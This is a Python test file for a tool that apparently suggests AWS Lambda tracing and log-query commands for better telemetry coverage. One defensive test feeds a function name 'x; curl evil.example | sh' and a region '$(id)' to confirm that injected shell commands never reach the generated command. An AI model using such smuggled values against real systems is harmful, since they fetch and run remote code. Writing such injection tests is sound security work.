"""What would make a function better covered."""

from __future__ import annotations

from typing import Any

from coldtrail.alerts.showing.shell import in_shell, notes
from coldtrail.records.facts import Facts, UnseenCall
from coldtrail.records.flow import Flow
from coldtrail.records.identity import FunctionKey
from coldtrail.testing import make_flow
from coldtrail.verbs.coverage.remedies import WHOM, Lack, lacks_of
from coldtrail.verbs.coverage.scores import parts_of
from coldtrail.verbs.coverage.seen import Seen
from coldtrail.verbs.coverage.told import Told
from tests.verbs.telemetry_files import GET

KEY = FunctionKey("111122223333", "eu-west-1", "shop", "Charge")
REPORTED: dict[str, Any] = {"witnesses": ("lambda-report", "xray")}


def lacks(*flows: Flow, told: Told | None = None, key: FunctionKey = KEY) -> dict[str, Lack]:
    seen = Seen()
    for flow in flows:
        seen.add(flow)
    return {one.part: one for one in lacks_of(key, seen, told, parts_of(seen, told))}


def command(lack: Lack) -> str:
    assert lack.step.command is not None
    return in_shell(lack.step.command)


def test_a_function_that_never_traces_is_told_how_to() -> None:
    found = lacks(told=Told(12.0, 0.0, "metrics"))
    assert list(found) == ["traced"]
    assert found["traced"].step.told == "Turn active tracing on for Charge, which ran 12 times untraced"
    assert command(found["traced"]) == (
        "aws lambda update-function-configuration --function-name Charge --tracing-config Mode=Active "
        "--region eu-west-1"
    )


def test_reports_are_asked_for_in_the_time_of_the_flows_and_in_both_formats_of_logs() -> None:
    flows = [
        make_flow([GET], start=start, witnesses=("xray",)) for start in (1_700_000_000.25, 1_700_000_900.0)
    ]
    found = lacks(*flows)["reports"]
    said = command(found)
    assert '--filter-pattern \'?"REPORT RequestId" ?"platform.report"\'' in said
    assert "--start-time 1700000000000 " in said
    assert int(said.split("--end-time ")[1].split()[0]) >= 1_700_000_960_000
    assert "saved below aws/lambda/NAME/" in found.step.told


def test_names_that_no_function_has_enter_no_command() -> None:
    key = KEY._replace(function="x; curl evil.example | sh", region="$(id)")
    (lack,) = lacks(key=key).values()
    assert "curl" not in command(lack)
    assert "FUNCTION_NAME" in command(lack)
    assert "REGION" in command(lack)
    assert lack.step.command is not None
    assert len(notes(lack.step.command)) == 2


def test_what_is_well_covered_lacks_nothing() -> None:
    assert lacks(make_flow([GET], **REPORTED), told=Told(1.0, 1.0, "reports")) == {}


def test_each_lack_has_its_remedy() -> None:
    sampled = lacks(make_flow([GET], **REPORTED), told=Told(20.0, 1.0, "metrics"))
    assert "about 5 % of 20 invocations" in sampled["traced"].step.told
    open_one = make_flow([GET], complete=False, upstream_lost=True, caller=None, witnesses=("xray",))
    found = lacks(open_one)
    assert list(found) == ["callers", "whole", "reports"]
    assert "the caller of 1 flow is missing" in found["callers"].step.told
    assert "of 1 flow the record was open" in found["whole"].step.told
    assert "--log-group-name /aws/lambda/Charge" in command(found["reports"])


def test_calls_that_traces_do_not_tell_are_named() -> None:
    unseen = Facts(unseen=(UnseenCall("S3", "GetObject", "loot", 1.0),))
    hidden = lacks(make_flow([GET], facts=unseen, **REPORTED))["calls"].step.told
    assert "only CloudTrail shows 1 call (GetObject of S3)" in hidden
    assert "none of its steps is a call" in lacks(make_flow([], **REPORTED))["calls"].step.told


def test_spans_without_any_host_or_database_may_be_those_of_a_layer_that_records_none() -> None:
    spans: dict[str, Any] = {"witnesses": ("lambda-report", "otlp")}
    assert "OTEL_PYTHON_DISABLED_INSTRUMENTATIONS" in lacks(make_flow([GET], **spans))["calls"].step.told
    remote = make_flow([GET, ("GET", "remote", "a.example", 0.1)], **spans)
    assert lacks(make_flow([GET], **spans), remote) == {}
    assert lacks(make_flow([GET], **REPORTED)) == {}


def test_what_several_functions_lack_names_none_of_them() -> None:
    found = lacks(make_flow([], complete=False, upstream_lost=True, caller=None, witnesses=("xray",)))
    for lack in (*found.values(), *lacks(told=Told(12.0, 0.0, "metrics")).values()):
        assert lack.of_several.count(WHOM) == 1
        assert "Charge" not in lack.of_several
        assert WHOM not in lack.step.told
        assert "Charge" in lack.step.told
